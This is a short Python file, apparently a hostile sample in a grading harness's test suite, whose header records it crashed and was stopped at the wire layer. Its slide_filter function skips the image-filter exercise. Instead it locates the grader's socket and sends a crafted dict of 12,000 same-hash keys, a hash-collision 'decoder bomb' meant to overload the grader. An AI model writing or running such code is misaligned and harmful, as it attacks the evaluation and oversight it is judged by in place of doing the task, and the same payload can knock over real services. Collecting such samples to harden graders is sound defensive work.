"""It sends a dict whose 12,000 keys have one hash, so that each costs the grader more.

exercise: ex02
points: 0
status: CRASHED
stopped-by: wire
group: decoder bombs
"""

import os
import stat
import struct

PRIME = (1 << 61) - 1
KEYS = 12_000


def channel():
    """Find the socket to the grader."""
    for fd in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise LookupError("no socket")


def send(kind, sequence, body=b"", length=None):
    """Write a frame to the grader."""
    size = len(body) if length is None else length
    data = memoryview(struct.pack("<IIB", size, sequence, kind) + body)
    while data:
        data = data[os.write(channel(), data) :]


def slide_filter(image, kernel):
    body = bytearray(b"t\x03\0\0\0d" + struct.pack("<I", KEYS))
    for number in range(1, KEYS + 1):
        body += b"I\x0a\0\0\0" + (number * PRIME).to_bytes(10, "little", signed=True) + b"N"
    send(11, 1, bytes(body + b"Ns\0\0\0\0"))
    return None
